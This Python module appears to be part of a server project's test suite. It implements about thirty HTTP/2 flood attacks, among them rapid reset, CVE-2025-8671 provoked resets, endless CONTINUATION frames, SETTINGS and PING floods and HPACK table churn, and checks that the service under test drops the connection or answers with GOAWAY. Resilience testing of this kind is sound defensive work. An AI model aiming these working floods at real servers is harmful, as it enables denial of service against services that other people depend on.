"""Attacks that send much that is cheap to send."""

import select
import ssl
import struct
from typing import NamedTuple

from tests.wire import peer as h2
from tests.wire.arena import Arena, Attack
from tests.wire.peer import Frame, Peer

CODES = (
    "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
    "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
    "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED",
)  # fmt: skip
#: Frames of one ``send``.
BATCH = 200


class Flooded(NamedTuple):
    """How far a flood came.

    Attributes:
        num_sent: Pieces that the kernel took.
        goaway: The code of GOAWAY; "" without one.
        is_open: Whether the connection was open at the end.
        is_read: Whether the service read all the time.
        num_resets: RST_STREAM frames that came.
    """

    num_sent: int
    goaway: str
    is_open: bool
    is_read: bool
    num_resets: int

    def __str__(self) -> str:
        if self.goaway:
            return f"GOAWAY {self.goaway} after {self.num_sent:,} or fewer"
        if not self.is_open:
            return f"closed after {self.num_sent:,} or fewer"
        return f"{self.num_sent:,} taken" + ("" if self.is_read else ", then no longer read")


class _Sink:
    """Takes in what a peer is sent, and keeps little of it."""

    def __init__(self) -> None:
        self.goaway = ""
        self.num_resets = 0
        self._pending = bytearray()

    def feed(self, piece: bytes) -> None:
        pending = self._pending
        pending += piece
        at = 0
        while len(pending) - at >= 9:
            high, low, kind, flags, stream_id = struct.unpack_from("!BHBBI", pending, at)
            size = 9 + (high << 16 | low)
            if len(pending) - at < size:
                break
            if kind == h2.GOAWAY:
                read = Frame(kind, flags, stream_id, bytes(pending[at + 9 : at + size]))
                self.goaway = CODES[read.error_code] if read.error_code < len(CODES) else str(read.error_code)
            self.num_resets += kind == h2.RST_STREAM
            at += size
        del pending[:at]


def flood(peer: Peer, piece: bytes, number: int, *, patience_s: float = 5.0) -> Flooded:
    """Send a piece again and again, reading what comes meanwhile, until the service ends the connection.

    Args:
        peer: Without TLS.
        piece: Whole frames, for instance.
        number: How often.
        patience_s: How long the service may take nothing before the flood ends.
    """
    return flood_all(peer, [piece * BATCH] * max(number // BATCH, 1), BATCH, patience_s=patience_s)


def flood_all(peer: Peer, pieces: list[bytes], weight: int = 1, *, patience_s: float = 5.0) -> Flooded:
    """As ``flood``, with pieces that differ; each counts as ``weight``. At the end a PING is answered, or not."""
    sink, sock = _Sink(), peer.socket
    assert not isinstance(sock, ssl.SSLSocket)
    sink.feed(bytes(peer._read))
    peer._read.clear()
    sock.setblocking(False)
    index = offset = 0
    is_read = is_open = True
    while index < len(pieces):
        readable, writable, _ = select.select([sock], [sock], [], patience_s)
        if not readable and not writable:
            is_read = False
            break
        try:
            if readable:
                if not (piece := sock.recv(1 << 18)):
                    is_open = False
                    break
                sink.feed(piece)
            if writable:
                offset += sock.send(memoryview(pieces[index])[offset:])
                if offset == len(pieces[index]):
                    index, offset = index + 1, 0
        except BlockingIOError:
            continue
        except OSError:
            is_open = False
            break
    if is_open and is_read:
        is_open, is_read = _is_alive(peer, sink, patience_s)
    return Flooded(index * weight, sink.goaway, is_open and not sink.goaway, is_read, sink.num_resets)


def _is_alive(peer: Peer, sink: _Sink, patience_s: float) -> tuple[bool, bool]:
    """Whether the connection is open after a last PING, and whether the service read it; everything is read."""
    token = b"lastping"
    sock = peer.socket
    sock.settimeout(patience_s)
    try:
        sock.sendall(h2.ping(token))
        tail = b""
        while True:
            piece = sock.recv(1 << 18)
            if not piece:
                return False, True
            sink.feed(piece)
            tail = (tail + piece)[-(len(piece) + 17) :]
            if sink.goaway or h2.ping(token, ack=True) in tail:
                return True, True
    except TimeoutError:
        return True, False
    except OSError:
        return False, True


def rapid_reset(arena: Arena) -> str:
    """Requests that are withdrawn at once."""
    peer = arena.peer()
    number = arena.num(400_000)
    pieces = [
        peer.request("/test.Echo/Slow", b"x", stream_id=stream_id) + h2.reset(stream_id)
        for stream_id in range(1, 2 * number, 2)
    ]
    flooded = flood_all(peer, [b"".join(pieces[at : at + BATCH]) for at in range(0, number, BATCH)], BATCH)
    arena.expect(flooded.goaway == "ENHANCE_YOUR_CALM" or not flooded.is_open, flooded)
    return str(flooded)


def resets_of_a_router(arena: Arena) -> str:
    """Requests that are withdrawn at once on a Unix socket, as a router passes on those of all its clients."""
    peer = arena.peer(to="unix")
    number = arena.num(100_000)
    pieces = [
        peer.request("/test.Echo/Unary", b"x", stream_id=stream_id) + h2.reset(stream_id)
        for stream_id in range(1, 2 * number, 2)
    ]
    flooded = flood_all(peer, [b"".join(pieces[at : at + BATCH]) for at in range(0, number, BATCH)], BATCH)
    arena.expect(flooded.is_open, flooded)
    return str(flooded)


def made_resets(arena: Arena) -> str:
    """Requests on which the client errs at once, so that the server withdraws them (CVE-2025-8671)."""
    peer = arena.peer()
    number = arena.num(400_000)
    pieces = [
        peer.request("/test.Echo/Slow", b"x", stream_id=stream_id) + h2.window_update(stream_id, 0)
        for stream_id in range(1, 2 * number, 2)
    ]
    flooded = flood_all(peer, [b"".join(pieces[at : at + BATCH]) for at in range(0, number, BATCH)], BATCH)
    arena.expect(not flooded.is_open, flooded)
    return str(flooded)


def _endless_block(arena: Arena, piece: bytes, full: int) -> str:
    peer = arena.peer()
    block = peer.encoder.encode(h2.request_fields("/test.Echo/Unary"))
    peer.send(h2.frame(h2.HEADERS, 0, 1, block))
    flooded = flood(peer, h2.frame(h2.CONTINUATION, 0, 1, piece), arena.num(full, BATCH))
    arena.expect(not flooded.is_open, flooded)
    return str(flooded)


def large_continuations(arena: Arena) -> str:
    """A header block that never ends, in frames of 16 kB."""
    return _endless_block(arena, b"\x00\x01a\x01b" * 3276, 10_000)


def tiny_continuations(arena: Arena) -> str:
    """A header block that never ends, in frames of one byte."""
    return _endless_block(arena, b"\x82", 400_000)


def empty_continuations(arena: Arena) -> str:
    """A header block that never ends, in frames of no byte."""
    return _endless_block(arena, b"", 1_000_000)


def settings(arena: Arena) -> str:
    """SETTINGS without values, each of which wants an acknowledgement."""
    flooded = flood(arena.peer(), h2.settings_frame(), arena.num(1_200_000))
    arena.expect(not flooded.is_open, flooded)
    return str(flooded)


def many_settings(arena: Arena) -> str:
    """SETTINGS of 2,700 changes of the window, while 100 answers wait for theirs."""
    peer = arena.peer({h2.INITIAL_WINDOW_SIZE: 0})
    peer.send(*(peer.request("/test.Echo/Big", b"1000", stream_id=stream_id) for stream_id in range(1, 201, 2)))
    peer.read_kind(h2.HEADERS)
    changes = h2.settings_frame([(h2.INITIAL_WINDOW_SIZE, index % 2) for index in range(2700)])
    flooded = flood_all(peer, [changes] * arena.num(2000))
    return str(flooded)


def table_sizes(arena: Arena) -> str:
    """SETTINGS that change the size of the header table, up and down."""
    changes = h2.settings_frame([(h2.HEADER_TABLE_SIZE, 2**32 - 1 if index % 2 else 0) for index in range(2700)])
    peer = arena.peer()
    flooded = flood_all(peer, [changes] * arena.num(2000))
    return str(flooded)


def pings_read(arena: Arena) -> str:
    """PING, whose answers are read."""
    flooded = flood(arena.peer(), h2.ping(), arena.num(1_200_000))
    arena.expect(not flooded.is_open, flooded)
    return str(flooded)


def _unread_pings(arena: Arena, to: str) -> str:
    peer = arena.peer(to=to, receive_buffer_bytes=4096, timeout_s=3.0)
    number = 0
    while number < arena.num(40_000_000, 1_000_000) and peer.try_send(h2.ping() * 1000):
        number += 1000
    if arena.is_ours:
        peer.wait_gone(30.0)
    return f"lost its socket after {number:,} or fewer" if arena.is_ours else f"{number:,} taken"


def pings_unread(arena: Arena) -> str:
    """PING, from a peer that never reads."""
    return _unread_pings(arena, "plain")


def pings_unread_unix(arena: Arena) -> str:
    """The same on a Unix socket."""
    return _unread_pings(arena, "unix")


def pings_unread_tls(arena: Arena) -> str:
    """The same through TLS."""
    return _unread_pings(arena, "tls")


def settings_unread(arena: Arena) -> str:
    """SETTINGS, from a peer that never reads."""
    peer = arena.peer(receive_buffer_bytes=4096, timeout_s=3.0)
    number = 0
    while number < arena.num(20_000_000, 1_000_000) and peer.try_send(h2.settings_frame() * 1000):
        number += 1000
    if arena.is_ours:
        peer.wait_gone(30.0)
    return f"lost its socket after {number:,} or fewer" if arena.is_ours else f"{number:,} taken"


def requests_unread(arena: Arena) -> str:
    """Requests, from a peer that never reads the answers."""
    peer = arena.peer({h2.INITIAL_WINDOW_SIZE: h2.MAX_WINDOW}, window=2**30, receive_buffer_bytes=4096, timeout_s=3.0)
    stream_id, number = 1, arena.num(100_000)
    while stream_id < 2 * number:
        batch = [peer.request("/test.Echo/Unary", bytes(10_000), stream_id=stream_id + 2 * i) for i in range(10)]
        if not peer.try_send(*batch):
            break
        stream_id += 20
    return f"{stream_id // 2:,} requests of 10 kB taken"


def empty_data(arena: Arena) -> str:
    """DATA of no byte on one open stream."""
    peer = arena.peer()
    peer.send(peer.request("/test.Echo/ClientStream", None, end=False))
    flooded = flood(peer, h2.data(1), arena.num(1_200_000))
    arena.expect(not flooded.is_open, flooded)
    return str(flooded)


def padding(arena: Arena) -> str:
    """DATA of padding alone on one open stream; windows must be given back, or the flood ends by itself."""
    peer = arena.peer()
    peer.send(peer.request("/test.Echo/ClientStream", None, end=False))
    flooded = flood(peer, h2.data(1, padding=255), arena.num(400_000))
    return str(flooded)


def window_updates(arena: Arena) -> str:
    """WINDOW_UPDATE by one, on the connection and on a stream."""
    peer = arena.peer()
    peer.send(peer.request("/test.Echo/Slow"))
    flooded = flood(peer, h2.window_update(0, 1) + h2.window_update(1, 1), arena.num(1_200_000))
    arena.expect(not flooded.is_open, flooded)
    return str(flooded)


def priorities(arena: Arena) -> str:
    """PRIORITY on streams that do not exist."""
    peer = arena.peer()
    frames = [h2.frame(h2.PRIORITY, 0, 2 * index + 1, bytes(5)) for index in range(1000)]
    flooded = flood_all(peer, [b"".join(frames)] * arena.num(1200), 1000)
    arena.expect(not flooded.is_open, flooded)
    return str(flooded)


def unknown_frames(arena: Arena) -> str:
    """Frames of a type that nobody knows, empty and large."""
    peer = arena.peer()
    flooded = flood(peer, h2.frame(0xEE, 0xFF, 1) + h2.frame(0xEF, 0, 0, bytes(1000)), arena.num(200_000))
    return str(flooded)


def goaways(arena: Arena) -> str:
    """GOAWAY again and again."""
    peer = arena.peer()
    flooded = flood(peer, h2.goaway(0, debug=b"x" * 100), arena.num(200_000))
    return str(flooded)


def resets_of_nothing(arena: Arena) -> str:
    """RST_STREAM on a stream that has ended."""
    peer = arena.peer()
    peer.call("/test.Echo/Unary")
    flooded = flood(peer, h2.reset(1), arena.num(1_200_000))
    arena.expect(not flooded.is_open, flooded)
    return str(flooded)


def empty_messages(arena: Arena) -> str:
    """Messages of no byte, 3,276 a frame, to a handler that cannot go on because its answers are not read."""
    peer = arena.peer({h2.INITIAL_WINDOW_SIZE: 0})
    peer.send(peer.request("/test.Echo/BidiStream", None, end=False))
    piece = h2.data(1, h2.message(b"") * 3276)
    flooded = flood_all(peer, [piece] * arena.num(8000), 3276, patience_s=2.0)
    return str(flooded)


def tiny_messages(arena: Arena) -> str:
    """Messages of two bytes on several streams, to handlers that cannot go on because their answers are not read."""
    peer = arena.peer({h2.INITIAL_WINDOW_SIZE: 0})
    stream_ids = range(1, 17, 2)
    for stream_id in stream_ids:
        peer.send(peer.request("/test.Echo/BidiStream", None, stream_id=stream_id, end=False))
    pieces = [h2.data(stream_id, h2.message(b"ab") * 2340) for stream_id in stream_ids]
    flooded = flood_all(peer, pieces * arena.num(4000, 400), 2340, patience_s=2.0)
    return str(flooded)


def drip(arena: Arena) -> str:
    """Frames of 1 MB that are padded, whose last bytes come one by one."""
    peer = arena.peer()
    peer.send(peer.request("/test.Echo/ClientStream", None, end=False))
    largest = peer.settings.get(h2.MAX_FRAME_SIZE, 1 << 14)
    whole = h2.frame(h2.DATA, h2.PADDED, 1, b"\xff" + bytes(largest - 1))
    number = arena.num(40_000)
    peer.send(whole[:-number])
    for at in range(number):
        peer.send(whole[len(whole) - number + at :][:1])
    return f"{number:,} bytes one by one"


def timeouts(arena: Arena) -> str:
    """Requests with deadlines of a nanosecond and of years."""
    peer = arena.peer()
    number, pieces = arena.num(100_000), []
    for index in range(number):
        text, stream_id = ("1n" if index % 2 else "99999999H"), 2 * index + 1
        pieces.append(peer.request("/test.Echo/Unary", b"x", stream_id=stream_id, timeout=text))
    flooded = flood_all(peer, [b"".join(pieces[at : at + 50]) for at in range(0, number, 50)], 50)
    return str(flooded)


def trailers(arena: Arena) -> str:
    """Trailers again and again on one stream."""
    peer = arena.peer()
    peer.send(peer.request("/test.Echo/ClientStream", None, end=False))
    block = peer.encoder.encode([("a", "b")])
    flooded = flood(peer, h2.frame(h2.HEADERS, h2.END_HEADERS, 1, block), arena.num(1_200_000))
    arena.expect(not flooded.is_open, flooded)
    return str(flooded)


def header_references(arena: Arena) -> str:
    """Header blocks of 16 kB, each byte of which is a field."""
    return _header_flood(arena, b"\x84" * 16_000)


def table_churn(arena: Arena) -> str:
    """Header blocks of fields that all enter the table, and push others out of it."""
    return _header_flood(arena, b"".join(b"\x40\x01a\x02%02x" % (number & 0xFF) for number in range(2_600)))


def _header_flood(arena: Arena, fields: bytes) -> str:
    peer = arena.peer()
    number = arena.num(2_000)
    blocks = [
        h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream_id, fields) for stream_id in range(1, 2 * number, 2)
    ]
    flooded = flood_all(peer, blocks)
    arena.expect(not flooded.is_open, flooded)
    return str(flooded)


def data_on_refused_streams(arena: Arena) -> str:
    """Bytes, a frame each, on a stream that the service has reset."""
    peer = arena.peer()
    peer.send(peer.request("/test.Echo/ClientStream", None, end=False) + h2.window_update(1, 0))
    flooded = flood(peer, h2.data(1, b"x"), arena.num(6_000_000))
    arena.expect(not flooded.is_open, flooded)
    return str(flooded)


FLOODS = (
    Attack("header blocks of 16,000 references", header_references),
    Attack("header blocks that churn the table", table_churn),
    Attack("DATA on a stream that was reset", data_on_refused_streams),
    Attack("rapid reset", rapid_reset),
    Attack("resets that the client provokes", made_resets),
    Attack("resets on a Unix socket, which are a router's", resets_of_a_router),
    Attack("CONTINUATION of 16 kB, endless", large_continuations),
    Attack("CONTINUATION of one byte, endless", tiny_continuations),
    Attack("CONTINUATION of no byte, endless", empty_continuations),
    Attack("SETTINGS", settings),
    Attack("SETTINGS, answers not read", settings_unread),
    Attack("SETTINGS of 2,700 windows each, 100 answers waiting", many_settings),
    Attack("SETTINGS of 2,700 table sizes each", table_sizes),
    Attack("PING", pings_read),
    Attack("PING, answers not read", pings_unread),
    Attack("PING, answers not read, Unix socket", pings_unread_unix),
    Attack("PING, answers not read, TLS", pings_unread_tls),
    Attack("requests, answers not read", requests_unread, max_mib=64.0),
    Attack("DATA of no byte", empty_data),
    Attack("DATA of padding", padding),
    Attack("WINDOW_UPDATE", window_updates),
    Attack("PRIORITY", priorities),
    Attack("unknown frames", unknown_frames),
    Attack("GOAWAY", goaways),
    Attack("RST_STREAM of a stream that has ended", resets_of_nothing),
    Attack("trailers", trailers),
    Attack("empty messages, answers not read", empty_messages, max_mib=64.0),
    Attack(
        "messages of two bytes, answers not read", tiny_messages, max_mib=64.0, limits={"max_buffered_bytes": 32 << 20}
    ),
    Attack("frames of 1 MB whose end comes byte by byte", drip),
    Attack("deadlines of 1 ns and of years", timeouts, max_mib=64.0),
)
